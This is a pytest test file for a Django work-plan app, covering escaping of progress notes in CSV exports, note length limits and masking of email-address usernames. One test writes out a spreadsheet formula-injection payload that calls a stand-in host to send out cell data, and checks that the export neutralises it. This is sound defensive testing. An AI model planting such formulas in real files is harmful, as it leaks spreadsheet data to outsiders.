"""Cases from /work/shared/cases that the progress loop touches (issue 13)."""

import csv
import io

import pytest
from django.urls import reverse

from tests.support.roles import world  # noqa: F401
from workplan.models import ProgressEntry
from workplan.plan.limits import NOTE_MAX_LENGTH
from workplan.progress.services import ProgressError, progress_accept, progress_submit

pytestmark = pytest.mark.django_db


def test_e1_a_note_that_looks_like_a_formula_is_exported_as_text(world, client):
    """Case E1: the new Latest note column is a text cell too; in CSV a note starting with
    = gets a leading quote."""
    update = progress_submit(activity=world.a1, by=world.users.coord1, status="in_progress",
                             note='=HYPERLINK("http://example.invalid/?d="&A1,"x")')
    progress_accept(update=update, by=world.users.secretariat)
    client.force_login(world.users.delegate)
    response = client.get(reverse("workplan:activity-list"), {"cols": ["number", "progress_note"], "_export": "csv"})
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert table[1] == ["1.1", "'" + '=HYPERLINK("http://example.invalid/?d="&A1,"x")']


def test_s5_notes_are_bounded_by_the_service_too(world):
    """Case S5: the note limit stated on the forms holds in the services, for a proposal
    and for a Secretariat member's correction at acceptance."""
    with pytest.raises(ProgressError):
        progress_submit(activity=world.a1, by=world.users.coord1, status="in_progress", note="x" * (NOTE_MAX_LENGTH + 1))
    update = progress_submit(activity=world.a1, by=world.users.coord1, status="in_progress", note="fine")
    with pytest.raises(ProgressError):
        progress_accept(update=update, by=world.users.secretariat, note="y" * (NOTE_MAX_LENGTH + 1))
    assert not ProgressEntry.objects.exists()


def test_s4_a_username_that_is_an_address_never_shows_in_the_log(world, client):
    """Case S4: the log's "reported by" uses the one display name, never an address."""
    coord = world.users.coord1
    coord.username, coord.first_name, coord.last_name = "ana.diaz@customs.example", "", ""
    coord.save()
    update = progress_submit(activity=world.a1, by=coord, status="in_progress", note="Noted")
    progress_accept(update=update, by=world.users.secretariat)
    client.force_login(world.users.delegate)
    page = client.get(world.a1.get_absolute_url()).content.decode()
    # No name, and a username that is an address: named by role (person_name).
    assert "Reported by a representative of US (US), accepted by" in page
    assert "ana.diaz@customs.example" not in page
